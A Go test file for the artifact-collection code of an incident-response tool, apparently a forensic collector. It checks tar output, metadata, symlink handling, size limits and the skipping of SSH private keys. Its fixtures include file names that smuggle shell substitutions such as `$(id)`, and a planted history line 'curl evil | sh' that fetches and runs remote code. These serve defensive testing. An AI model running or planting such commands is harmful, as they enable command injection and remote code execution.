package artifact

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/quicklime-ir/quicklime/proto/definition"
)

// member is a file read back from the tar.
type member struct {
	*tar.Header
	content string
	size    int64
	sum     string
}

// collect writes the definitions' files and reads the tar back. Contents over
// 1 MiB are only counted and hashed.
func collect(t *testing.T, h *Host, definitions ...Definition) (map[string]member, []Entry) {
	t.Helper()
	var rec Record
	r, w := io.Pipe()
	done := make(chan error, 1)
	go func() {
		err := h.writeFiles(t.Context(), w, &rec, definitions)
		w.CloseWithError(err)
		done <- err
	}()
	got := map[string]member{}
	in := afterLog(t, r)
	for {
		header, err := in.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if _, twice := got[header.Name]; twice {
			t.Errorf("%q is in the tar twice", header.Name)
		}
		var content bytes.Buffer
		hash := sha256.New()
		size, err := io.Copy(io.MultiWriter(hash, &capped{&content, 1 << 20}), in)
		if err != nil {
			t.Fatal(err)
		}
		got[header.Name] = member{header, content.String(), size, hex.EncodeToString(hash.Sum(nil))}
	}
	io.Copy(io.Discard, r) // the padding of the end
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	return got, entries(t, &rec)
}

// afterLog reads past the log, which every tar begins with.
func afterLog(t testing.TB, r io.Reader) *tar.Reader {
	t.Helper()
	in := tar.NewReader(r)
	header, err := in.Next()
	if err != nil || header.Name != uacLog || header.Size == 0 {
		t.Fatalf("the tar begins with %+v, %v, not with its log", header, err)
	}
	return in
}

type capped struct {
	w    *bytes.Buffer
	left int
}

func (c *capped) Write(p []byte) (int, error) {
	n := min(len(p), c.left)
	c.w.Write(p[:n])
	c.left -= n
	return len(p), nil
}

// logs is a definition of everything below /var/log.
var logs = Definition{Name: "Logs", Paths: []string{"/var/log/**"}}

func TestFilesKeepContentOwnerModeAndTimes(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"var/log/auth.log": "accepted\n", "etc/passwd": "root:x:0:0::/root:/bin/sh\n", "etc/group": "root:x:0:\n"})
	path := filepath.Join(root, "var/log/auth.log")
	modified := time.Unix(1_600_000_000, 123456789)
	if err := errors.Join(os.Chtimes(path, time.Unix(1_500_000_000, 987654321), modified), os.Chmod(path, 0o640)); err != nil {
		t.Fatal(err)
	}
	got, record := collect(t, &Host{Root: root}, logs)
	m := got["[root]/var/log/auth.log"]
	if m.Header == nil || m.content != "accepted\n" {
		t.Fatalf("got %+v", got)
	}
	if !m.ModTime.Equal(modified) || m.AccessTime.Nanosecond() != 987654321 || m.ChangeTime.IsZero() || m.Mode != 0o640 || m.Uid != os.Getuid() {
		t.Errorf("wrong: %+v", m.Header)
	}
	if os.Getuid() == 0 && (m.Uname != "root" || m.Gname != "root") {
		t.Errorf("owner %q:%q, want the names of the root's own passwd", m.Uname, m.Gname)
	}
	if m.PAXRecords[paxInode] == "" || m.PAXRecords[paxDev] == "" {
		t.Errorf("PAX records %q", m.PAXRecords)
	}
	var stat unix.Statx_t
	if err := unix.Statx(unix.AT_FDCWD, path, 0, unix.STATX_BTIME, &stat); err == nil && stat.Mask&unix.STATX_BTIME != 0 {
		if want := fmt.Sprintf("%d.%09d", stat.Btime.Sec, stat.Btime.Nsec); m.PAXRecords[paxBirth] != want {
			t.Errorf("birth %q, want %q", m.PAXRecords[paxBirth], want)
		}
	}
	if e := find(t, record, "/var/log/auth.log"); e.SHA256 != m.sum || e.Bytes != 9 || e.Source != "Logs" || e.Started.IsZero() {
		t.Errorf("on record is %+v", e)
	}
	after, err := os.Stat(path)
	if err != nil || !after.ModTime().Equal(modified) {
		t.Errorf("the host was touched: %v, %v", after, err)
	}
}

func TestFilesSurviveHostileNames(t *testing.T) {
	root := t.TempDir()
	names := []string{"two\nlines", "blank\n\nline", "invalid\xff\xfeutf8", " ", "-rf", `back\slash`, "quote'\"$(id)`id`", "uac-3.3.0", strings.Repeat("n", 255), "\x1b[2J"}
	for _, name := range names {
		place(t, root, map[string]string{"var/log/" + name: "in " + name})
	}
	got, record := collect(t, &Host{Root: root}, logs)
	for _, name := range names {
		if m := got["[root]/var/log/"+name]; m.content != "in "+name {
			t.Errorf("%q has %q", name, m.content)
		}
		if e := find(t, record, "/var/log/"+name); len(e.SHA256) != 64 {
			t.Errorf("%q has on record %+v", name, e)
		}
	}
}

func TestFilesNeverReadWhatIsNoFile(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"var/log/plain": "x"})
	dir := filepath.Join(root, "var/log")
	if err := unix.Mkfifo(filepath.Join(dir, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A socket's path is short, so it is made from within its folder.
	t.Chdir(dir)
	socket, err := net.Listen("unix", "socket")
	if err != nil {
		t.Fatal(err)
	}
	defer socket.Close()
	kinds := map[string]string{"fifo": "fifo", "socket": "socket"}
	if unix.Mknod(filepath.Join(dir, "device"), unix.S_IFCHR|0o644, int(unix.Mkdev(1, 5))) == nil {
		kinds["device"] = "character device" // /dev/zero: to read it never ends
	}
	got, record := collect(t, &Host{Root: root}, logs)
	for name, kind := range kinds {
		if _, taken := got["[root]/var/log/"+name]; taken {
			t.Errorf("the %s is in the tar", kind)
		}
		if e := find(t, record, "/var/log/"+name); e.Note != NoteUnread || string(e.Detail) != kind {
			t.Errorf("on record is %+v", e)
		}
	}
}

func TestFilesKeepLinksAndFollowNone(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	place(t, outside, map[string]string{"secret": "outside"})
	place(t, root, map[string]string{"var/log/plain": "x", "var/log/real/inner": "y"})
	for name, target := range map[string]string{
		"loop": "loop", "up": "..", "out": outside, "file": filepath.Join(outside, "secret"), "null": "/dev/null", "within": "real",
	} {
		if err := os.Symlink(target, filepath.Join(root, "var/log", name)); err != nil {
			t.Fatal(err)
		}
	}
	got, _ := collect(t, &Host{Root: root}, logs)
	for name, target := range map[string]string{"loop": "loop", "up": "..", "out": outside, "null": "/dev/null", "within": "real"} {
		if m := got["[root]/var/log/"+name]; m.Header == nil || m.Typeflag != tar.TypeSymlink || m.Linkname != target {
			t.Errorf("link %s is %+v", name, m.Header)
		}
	}
	for name, m := range got {
		if strings.Contains(name, "secret") || strings.Contains(name, "within/") || m.content == "outside" {
			t.Errorf("a link was followed: %q", name)
		}
	}
}

// Administrators move folders to other disks; that link is followed, within
// the root, and put on record.
func TestFilesFollowALinkToTheirFolder(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"data/logs/auth.log": "moved"})
	os.MkdirAll(filepath.Join(root, "var"), 0o755)
	if err := os.Symlink("/data/logs", filepath.Join(root, "var/log")); err != nil {
		t.Fatal(err)
	}
	got, record := collect(t, &Host{Root: root}, logs)
	if got["[root]/var/log/auth.log"].content != "moved" {
		t.Skip("this kernel has no openat2") // then the link is left alone
	}
	if find(t, record, "/var/log").Note != NoteLink {
		t.Error("the link went unsaid")
	}
}

// Without openat2 a folder is reached step by step, and links are refused.
func TestOpenBaseByStep(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"var/log/x": ""})
	os.Symlink("var", filepath.Join(root, "link"))
	fd, err := unix.Open(root, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	for base, want := range map[string]error{"/": nil, "/var/log": nil, "/var/log/x": unix.ENOTDIR, "/link/log": unix.ENOTDIR, "/none": unix.ENOENT} {
		n, err := openBaseByStep(fd, base)
		if !errors.Is(err, want) {
			t.Errorf("%s: %v, want %v", base, err, want)
		}
		if err == nil {
			n.close()
		}
	}
}

// trigger calls do when the first bytes of content pass.
type trigger struct {
	w    io.Writer
	mark []byte
	do   func()
	done bool
}

func (g *trigger) Write(p []byte) (int, error) {
	if !g.done && bytes.Contains(p, g.mark) {
		g.done = true
		g.do()
	}
	return g.w.Write(p)
}

func TestFilesThatChangeWhileTheyAreRead(t *testing.T) {
	const size = 1 << 20
	for note, change := range map[string]func(path string) error{
		NoteGrew:    func(path string) error { return os.Truncate(path, 2*size) },
		NoteShrank:  func(path string) error { return os.Truncate(path, size/4) },
		NoteChanged: func(path string) error { return os.Chtimes(path, time.Now(), time.Unix(1, 0)) },
	} {
		root := t.TempDir()
		path := filepath.Join(root, "var/log/log")
		place(t, root, map[string]string{"var/log/log": strings.Repeat("content.", size/8)})
		var out bytes.Buffer
		var rec Record
		var failed error
		w := &trigger{w: &out, mark: []byte("content."), do: func() { failed = change(path) }}
		h := &Host{Root: root}
		if err := errors.Join(h.writeFiles(t.Context(), w, &rec, []Definition{logs}), failed); err != nil {
			t.Fatal(err)
		}
		in := afterLog(t, &out)
		header, err := in.Next()
		if err != nil || header.Size != size {
			t.Fatalf("%s: member of %d bytes, %v, want %d", note, header.Size, err, size)
		}
		content, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(content)
		e := find(t, entries(t, &rec), "/var/log/log")
		if e.Note != note || e.Bytes != size || e.Size != size || e.SHA256 != hex.EncodeToString(sum[:]) {
			t.Errorf("%s: on record is %+v", note, e)
		}
		zeros := int64(len(content) - len(bytes.TrimRight(content, "\x00")))
		if e.Padded != zeros || (note == NoteShrank) != (zeros > 0) {
			t.Errorf("%s: %d bytes padded on record, %d in the tar", note, e.Padded, zeros)
		}
		if _, err := in.Next(); err != io.EOF {
			t.Errorf("%s: after it comes %v", note, err)
		}
	}
}

func TestFilesAreCutAtTheirLimits(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"var/log/big": strings.Repeat("b", 1000), "srv/a": strings.Repeat("a", 600), "srv/b": strings.Repeat("b", 600)})
	h := &Host{Root: root, Limits: Limits{FileBytes: 100, TotalBytes: 100_000}}
	got, record := collect(t, h, logs)
	if m := got["[root]/var/log/big"]; m.size != 100 || m.PAXRecords[paxSize] != "1000" {
		t.Errorf("%d bytes, PAX %q", m.size, m.PAXRecords)
	}
	if e := find(t, record, "/var/log/big"); e.Note != NoteCut || e.Size != 1000 || e.Bytes != 100 || e.Detail != "bytes of one file" {
		t.Errorf("on record is %+v", e)
	}
	got, record = collect(t, &Host{Root: root}, Definition{Name: "Two", Paths: []string{"/srv/a", "/srv/b"}, TotalBytes: 1000})
	if len(got["[root]/srv/a"].content)+len(got["[root]/srv/b"].content) != 1000 || find(t, record, "/srv/b").Detail != "bytes of this artifact" {
		t.Errorf("two files against one limit: on record %+v", record)
	}
	// A greedy artifact leaves half to the next.
	got, _ = collect(t, &Host{Root: root, Limits: Limits{TotalBytes: 1000}}, logs, Definition{Name: "Next", Paths: []string{"/srv/a"}})
	if got["[root]/var/log/big"].size != 500 || got["[root]/srv/a"].size != 250 {
		t.Errorf("%d and %d bytes, want 500 and 250", got["[root]/var/log/big"].size, got["[root]/srv/a"].size)
	}
}

// On every host some files refuse to be read; /proc has some for root too.
func TestFilesThatCannotBeRead(t *testing.T) {
	w := &walker{ctx: t.Context(), rec: new(Record), seen: map[uint64]struct{}{}}
	c := &collection{ctx: t.Context(), rec: w.rec, tar: tar.NewWriter(io.Discard), out: io.Discard, limits: Limits{}.filled(), buf: make([]byte, 4096), hash: sha256.New(), left: 1 << 20, defLeft: 1 << 20}
	fd, err := unix.Open("/proc/self", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	n, err := openNode(fd, "mem")
	if err != nil {
		t.Fatal(err)
	}
	defer n.close()
	n.stat.Size = 100 // page 0 is never mapped: EIO
	def := &Definition{Name: "Memory"}
	if err := c.take(def, n, "/proc/self/mem"); err != nil {
		t.Fatal(err)
	}
	if e := find(t, entries(t, c.rec), "/proc/self/mem"); e.Errno != "EIO" || e.Bytes != 100 || e.Padded != 100 || len(e.SHA256) != 64 {
		t.Errorf("on record is %+v", e)
	}
	if err := c.tar.Flush(); err != nil {
		t.Errorf("the tar is out of step: %v", err)
	}
}

func TestFilesDoNotEnterTheKernelsFileSystems(t *testing.T) {
	got, record := collect(t, new(Host), Definition{Name: "Kernel", Paths: []string{"/proc/sys/kernel/*"}})
	if len(got) != 0 {
		t.Errorf("took %d members", len(got))
	}
	if e := find(t, record, "/proc/sys/kernel"); e.Note != NoteFileSystem || !strings.Contains(string(e.Detail), "proc") {
		t.Errorf("on record is %+v", e)
	}
}

// A name below a network's mount is not even looked up, as that can hang.
func TestFilesDoNotLookIntoANetworksMount(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{
		"proc/self/mountinfo":    "36 35 0:4095 / /home rw - nfs4 server:/home rw\n37 35 0:4094 / / rw - 9p root rw\n",
		"etc/passwd":             "ann:x:6:6::/home/ann:/bin/sh\n",
		"home/ann/.bash_history": "ls\n", "var/log/x": "x",
	})
	got, record := collect(t, &Host{Root: root}, Definition{Name: "Home", Paths: []string{"/home/ann/.bash_history"}}, logs)
	if len(got) != 1 || got["[root]/var/log/x"].Header == nil {
		t.Errorf("took %d members", len(got))
	}
	if e := find(t, record, "/home/ann"); e.Note != NoteFileSystem || !strings.Contains(string(e.Detail), "nfs4") {
		t.Errorf("on record is %+v", e)
	}
}

func TestFilesOfEveryHome(t *testing.T) {
	root := t.TempDir()
	const private = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==\n"
	place(t, root, map[string]string{
		"etc/passwd":                "root:x:0:0::/root:/bin/sh\nsvc:x:5:5::/srv/svc:/bin/sh\nalias:x:6:6::/home/same/../ann:/bin/sh\nbad:x:7:7::relative:/bin/sh\n",
		"root/.bash_history":        "curl evil | sh\n",
		"srv/svc/.psql_history":     "select\n",
		"home/ann/.zsh_history":     "ls\n",
		"home/gone/.lesshst":        "left by a removed user\n",
		"root/.ssh/authorized_keys": "# -----BEGIN OPENSSH PRIVATE KEY-----\nssh-ed25519 AAAA mallory\n",
		"root/.ssh/id_ed25519":      private,
		"root/.ssh/id_ed25519.pub":  "ssh-ed25519 AAAA root\n",
		"root/.ssh/renamed":         private,
		"etc/ssh/ssh_host_rsa_key":  "-----BEGIN RSA PRIVATE KEY-----\n",
		"etc/ssh/sshd_config":       "PermitRootLogin yes\n",
	})
	got, record := collect(t, &Host{Root: root}, Definitions()...)
	for _, want := range []string{"root/.bash_history", "srv/svc/.psql_history", "home/ann/.zsh_history", "home/gone/.lesshst", "root/.ssh/authorized_keys", "root/.ssh/id_ed25519.pub", "etc/ssh/sshd_config", "etc/passwd"} {
		if got["[root]/"+want].Header == nil {
			t.Errorf("%s was not taken", want)
		}
	}
	for _, key := range []string{"/root/.ssh/id_ed25519", "/root/.ssh/renamed", "/etc/ssh/ssh_host_rsa_key"} {
		if got["[root]"+key].Header != nil {
			t.Errorf("the private key %s was taken", key)
		}
		if e := find(t, record, key); e.Note != NotePrivateKey || e.Size == 0 || e.SHA256 != "" {
			t.Errorf("on record is %+v", e)
		}
	}
	found := slices.ContainsFunc(record, func(e Entry) bool { return e.Source == "SSMCommands" && e.Note == NoteNone })
	if !found {
		t.Error("an artifact that matches nothing went unsaid")
	}
}

func TestFilesOfThisHost(t *testing.T) {
	h := &Host{Limits: Limits{FileBytes: 1 << 20, TotalBytes: 64 << 20}}
	definitions := slices.DeleteFunc(Definitions(), func(d Definition) bool { return d.Name == "TemporaryFiles" }) // /tmp may hold anything where tests run
	got, record := collect(t, h, definitions...)
	if got["[root]/etc/passwd"].Header == nil {
		t.Error("/etc/passwd was not taken")
	}
	for _, e := range record {
		if e.SHA256 != "" && !strings.Contains(e.Note, NoteSparse) && got["[root]"+string(e.Path)].sum != e.SHA256 {
			t.Errorf("%q: hash on record is not that of the tar", e.Path)
		}
	}
}

func TestFilesEndWithTheirContext(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"var/log/log": strings.Repeat("content.", 1<<20)})
	ctx, cancel := context.WithCancel(t.Context())
	var out bytes.Buffer
	w := &trigger{w: &out, mark: []byte("content."), do: cancel}
	err := (&Host{Root: root}).writeFiles(ctx, w, new(Record), []Definition{logs})
	if !errors.Is(err, context.Canceled) || out.Len() > 1<<20 {
		t.Errorf("ended with %v after %d bytes", err, out.Len())
	}
}

func TestFilesFailWhenTheirPlaceDoes(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{"var/log/x": "x"})
	if err := (&Host{Root: root}).writeFiles(t.Context(), brokenWriter{}, new(Record), []Definition{logs}); !errors.Is(err, os.ErrClosed) {
		t.Errorf("got %v", err)
	}
}

func TestFilesCutDeepFolders(t *testing.T) {
	root := t.TempDir()
	deep := "var/log" + strings.Repeat("/d", definition.DefaultDepth)
	place(t, root, map[string]string{deep + "/below": "x"})
	got, record := collect(t, &Host{Root: root}, logs)
	if got["[root]/"+deep+"/"].Header == nil || got["[root]/"+deep+"/below"].Header != nil {
		t.Error("not cut at ten levels")
	}
	if e := record[slices.IndexFunc(record, func(e Entry) bool { return e.Note == NoteCut })]; string(e.Path) != "/"+deep || e.Detail != "depth" {
		t.Errorf("on record is %+v", e)
	}
}
